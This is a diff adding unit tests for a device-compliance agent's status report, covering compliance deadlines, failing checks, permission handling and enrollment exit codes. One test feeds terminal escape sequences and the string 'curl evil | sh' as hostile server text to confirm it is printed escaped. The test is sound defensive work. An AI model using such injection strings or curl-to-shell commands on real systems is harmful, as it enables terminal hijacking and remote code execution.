@@ -4,6 +4,7 @@
 #include "common/util/files.h"
 #include "gmock/gmock.h"
 #include "gtest/gtest.h"
+#include "tests/agent/cli/cli_test_util.h"
 #include "tests/agent/vpn/vpn_test_util.h"
 #include "tests/testing/temp_dir.h"
 
@@ -11,6 +12,7 @@ namespace trellis::agent {
 namespace {
 
 using ::testing::HasSubstr;
+using ::testing::Not;
 
 class SeenTunnel : public TunnelController {
  public:
@@ -100,6 +102,82 @@ TEST_F(StatusReportTest, AccessRemovedShowsTheServersReason) {
   SaveLastCheckIn(last);
   EXPECT_THAT(StatusReport(state_, absl::Now(), false),
               HasSubstr("VPN access:    none - firewall-on fails\n"));
+}
+
+TEST(StatusReportHumanTest, ShowsComplianceDeadlineAndFailingChecks) {
+  testing::TempDir dir;
+  AgentState state(dir.path() + "/state");
+  cli_testing::SaveDevice(state);
+  std::string text = StatusReport(state, cli_testing::Now(), false);
+  EXPECT_THAT(text, HasSubstr("Compliance:    grace (access kept until "
+                              "2027-01-15 08:00:00 UTC)\n"));
+  EXPECT_THAT(text, HasSubstr("Failing checks:\n"
+                              "  [FAIL] Disk is encrypted  (disk/encrypted)\n"
+                              "       How to fix:\n"
+                              "         Turn on FileVault\n"));
+  EXPECT_THAT(text, HasSubstr("  [FAIL (excepted until 2027-02-01 00:00:00 "
+                              "UTC: vendor laptop)] Firewall is on  "
+                              "(firewall/on)\n"));
+  EXPECT_THAT(text, Not(HasSubstr("OS is supported")));
+}
+
+TEST(StatusReportHumanTest, HostileServerTextPrintsEscaped) {
+  testing::TempDir dir;
+  AgentState state(dir.path() + "/state");
+  cli_testing::SaveDevice(state, "\x1b]0;owned\x07\x1b[2Jcurl evil | sh");
+  std::string text = StatusReport(state, cli_testing::Now(), false);
+  EXPECT_THAT(text, HasSubstr("\\e]0;owned\\x07\\e[2Jcurl evil | sh"));
+  EXPECT_EQ(text.find('\x1b'), std::string::npos);
+  EXPECT_EQ(text.find('\x07'), std::string::npos);
+}
+
+class NormalUserStatusTest : public ::testing::Test {
+ protected:
+  void SetUp() override { cli_testing::SaveDevice(state_); }
+  testing::TempDir dir_;
+  AgentState state_{dir_.path() + "/state"};
+};
+
+TEST_F(NormalUserStatusTest, ReadsTheStatusFileWhenThePrivateFilesAreDenied) {
+  ASSERT_TRUE(WriteStatusFile(state_, cli_testing::Now()).ok());
+  DeviceView view =
+      LoadDeviceView(state_, cli_testing::UserReader({StatusFilePath(state_)}));
+  ASSERT_EQ(view.source, DeviceView::Source::kStatusFile) << view.problem;
+  EXPECT_EQ(StatusExitCode(view), 0);
+  std::string text = StatusReport(view, state_, cli_testing::Now(), false);
+  EXPECT_THAT(text, HasSubstr("Enrolled:      yes (corporate device, group "
+                              "staff)\n"));
+  EXPECT_THAT(text, HasSubstr("Compliance:    grace (access kept until "
+                              "2027-01-15 08:00:00 UTC)\n"));
+  EXPECT_THAT(text, HasSubstr("[FAIL] Disk is encrypted"));
+  EXPECT_THAT(text, HasSubstr("[FAIL (excepted until 2027-02-01 00:00:00 UTC: "
+                              "vendor laptop)] Firewall is on"));
+  EXPECT_THAT(text, HasSubstr("VPN access:    full - meets policy\n"));
+  EXPECT_THAT(text, HasSubstr("Shown from:    " + StatusFilePath(state_)));
+  // Only root can see the certificate.
+  EXPECT_THAT(text, Not(HasSubstr("Certificate:")));
+  std::string json = StatusReport(view, state_, cli_testing::Now(), true);
+  EXPECT_THAT(json, HasSubstr("\"source\":\"status file\""));
+  EXPECT_THAT(json, HasSubstr("\"compliance_state\":\"grace\""));
+}
+
+TEST_F(NormalUserStatusTest, NoReadableFileMeansPermissionNotAbsence) {
+  DeviceView view = LoadDeviceView(state_, cli_testing::UserReader({}));
+  EXPECT_EQ(view.source, DeviceView::Source::kNeedsPermission);
+  EXPECT_EQ(StatusExitCode(view), 4);
+  std::string text = StatusReport(view, state_, cli_testing::Now(), false);
+  EXPECT_THAT(text, HasSubstr("Enrolled:      unknown\n"));
+  EXPECT_THAT(text, HasSubstr("needs permission (run as root or ask IT)"));
+  EXPECT_THAT(text, Not(HasSubstr("not enrolled")));
+}
+
+TEST(StatusReportNotEnrolledTest, MissingStateIsNotEnrolled) {
+  testing::TempDir dir;
+  AgentState state(dir.path() + "/none");
+  DeviceView view = LoadDeviceView(state, RealFileReader());
+  EXPECT_EQ(StatusExitCode(view), 3);
+  EXPECT_THAT(StatusReport(view, state, absl::Now(), false),
+              HasSubstr("Enrolled:      no\n"));
 }
 
 }  // namespace
